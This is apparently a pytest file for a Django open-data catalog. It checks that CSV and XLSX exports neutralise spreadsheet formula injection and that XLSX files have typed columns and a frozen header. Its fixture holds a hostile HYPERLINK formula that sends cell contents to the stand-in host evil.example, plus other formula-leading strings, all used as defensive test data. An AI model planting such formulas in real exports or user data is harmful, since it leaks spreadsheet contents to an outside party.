"""Spreadsheet files: formula injection is neutralised in every CSV and XLSX the bank writes (issue
21 item 4), and every CSV has an XLSX beside it with typed columns and a frozen header row (issue 20)."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from methodbank.api.opendata import open_data_build
from methodbank.core.tabular import neutralise_cell

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


@pytest.fixture
def hostile(catalog):
    model = catalog["model"]
    model.title = HOSTILE_TITLE
    model.summary = "+1 sum"
    model.goal_and_target_group = "-2+3"
    model.contacts = "@SUM(A1:A9)"
    model.resources = "\tline"
    model.save()
    return catalog


def _csv_rows(text):
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _xlsx_rows(content):
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return sheet, [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _assert_neutralised(row, model_id):
    assert row["id"] == model_id or row["id"] == str(model_id)
    assert row["title"] == "'" + HOSTILE_TITLE
    assert row["summary"] == "'+1 sum"
    assert row["goal_and_target_group"] == "'-2+3"
    assert row["contacts"] == "'@SUM(A1:A9)"
    assert row["resources"] == "'\tline"


def test_the_rule_touches_only_text_that_a_spreadsheet_would_run():
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("\r=cmd") == "'\r=cmd"
    assert neutralise_cell("\uff1dcmd") == "'\uff1dcmd"
    assert neutralise_cell("Nuoret = tulevaisuus") == "Nuoret = tulevaisuus"
    assert neutralise_cell(-5) == -5
    assert neutralise_cell("") == ""


def test_api_dumps_neutralise_formulas_in_csv_and_xlsx_and_keep_json_unchanged(client, hostile):
    open_data_build()
    model_id = hostile["model"].pk

    text = b"".join(client.get("/api/dumps/entries.csv").streaming_content).decode("utf-8")
    _assert_neutralised(next(r for r in _csv_rows(text) if r["id"] == str(model_id)), model_id)
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text

    response = client.get("/api/dumps/entries.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet, rows = _xlsx_rows(b"".join(response.streaming_content))
    _assert_neutralised(next(r for r in rows if r["id"] == model_id), model_id)
    # No cell of the workbook is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    data = json.loads(b"".join(client.get("/api/dumps/entries.json").streaming_content))
    assert next(r for r in data["entries"] if r["id"] == model_id)["title"] == HOSTILE_TITLE


def test_site_downloads_neutralise_formulas(client, hostile):
    model_id = hostile["model"].pk
    response = client.get(reverse("catalog:open_data_download", args=["entries", "csv"]))
    text = b"".join(response.streaming_content).decode("utf-8")
    _assert_neutralised(next(r for r in _csv_rows(text) if r["id"] == str(model_id)), model_id)

    response = client.get(reverse("catalog:open_data_download", args=["entries", "xlsx"]))
    assert response.status_code == 200
    assert 'filename="menetelmapankki-entries.xlsx"' in response["Content-Disposition"]
    _sheet, rows = _xlsx_rows(b"".join(response.streaming_content))
    _assert_neutralised(next(r for r in rows if r["id"] == model_id), model_id)


def test_export_catalog_neutralises_formulas_in_csv_and_xlsx(hostile, tmp_path):
    model_id = hostile["model"].pk
    out = io.StringIO()
    call_command("export_catalog", "--format", "csv", stdout=out)
    _assert_neutralised(next(r for r in _csv_rows(out.getvalue()) if r["id"] == str(model_id)), model_id)

    path = tmp_path / "entries.xlsx"
    call_command("export_catalog", "--format", "xlsx", "--out", str(path), verbosity=0)
    _sheet, rows = _xlsx_rows(path.read_bytes())
    _assert_neutralised(next(r for r in rows if r["id"] == model_id), model_id)


def test_xlsx_has_typed_columns_and_a_frozen_header_row(client, catalog):
    open_data_build()
    for what in ("entries", "projects"):
        sheet, rows = _xlsx_rows(b"".join(client.get(f"/api/dumps/{what}.xlsx").streaming_content))
        assert sheet.freeze_panes == "A2"
        csv_text = b"".join(client.get(f"/api/dumps/{what}.csv").streaming_content).decode("utf-8")
        csv_rows = _csv_rows(csv_text)
        # The same columns and rows as the CSV; ids are numbers, not text.
        assert list(rows[0]) == list(csv_rows[0])
        assert [r["id"] for r in rows] == [int(r["id"]) for r in csv_rows]
    _sheet, rows = _xlsx_rows(b"".join(client.get("/api/dumps/entries.xlsx").streaming_content))
    assert all(hasattr(r["published_at"], "year") for r in rows)


def test_open_data_page_offers_xlsx_beside_every_csv(client, db):
    html = client.get(reverse("catalog:open_data")).content.decode()
    for what in ("entries", "projects"):
        assert reverse("catalog:open_data_download", args=[what, "csv"]) in html
        assert reverse("catalog:open_data_download", args=[what, "xlsx"]) in html
        assert f"/api/dumps/{what}.csv" in html and f"/api/dumps/{what}.xlsx" in html


def test_datapackage_documents_the_csv_format_and_the_neutralisation(client, catalog):
    open_data_build()
    package = json.loads(b"".join(client.get("/api/dumps/datapackage.json").streaming_content))
    resources = {r["name"]: r for r in package["resources"]}
    assert {"entries-xlsx", "projects-xlsx"} <= set(resources)
    csv_resource = resources["entries-csv"]
    assert csv_resource["dialect"]["delimiter"] == ","
    assert csv_resource["encoding"] == "utf-8-sig"
    for name in ("entries-csv", "entries-xlsx", "projects-csv", "projects-xlsx"):
        assert "single quote" in resources[name]["formulaNeutralisation"]
        assert "=, +, -, @" in resources[name]["description"]
    assert resources["entries-xlsx"]["schema"] == csv_resource["schema"]
